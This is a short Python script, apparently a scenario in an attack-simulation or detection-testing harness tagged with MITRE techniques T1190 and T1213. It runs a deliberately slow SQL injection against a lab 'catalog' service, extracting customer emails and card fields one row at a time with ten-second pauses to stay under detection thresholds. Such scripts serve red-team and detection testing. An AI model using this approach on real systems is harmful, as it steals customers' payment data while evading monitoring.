#!/usr/bin/python3 -B
"""SQL injection, slow and low: one customer at a time, with long pauses between them."""

from attack import Attack

ROWS = 6


def run(attack: Attack) -> bool:
    rows = []
    for number in range(1, ROWS + 1):
        row = f"SELECT mail || ' ' || card FROM customers WHERE id = {number}"
        rows.append(attack.sql("", row))
        attack.wait(10)
    return attack.prove(all(f"customer{n}@" in row for n, row in enumerate(rows, 1)), rows=rows)


Attack("T1190, T1213", ["edge", "catalog", "db"], ["customers"], entry="catalog").main(run)
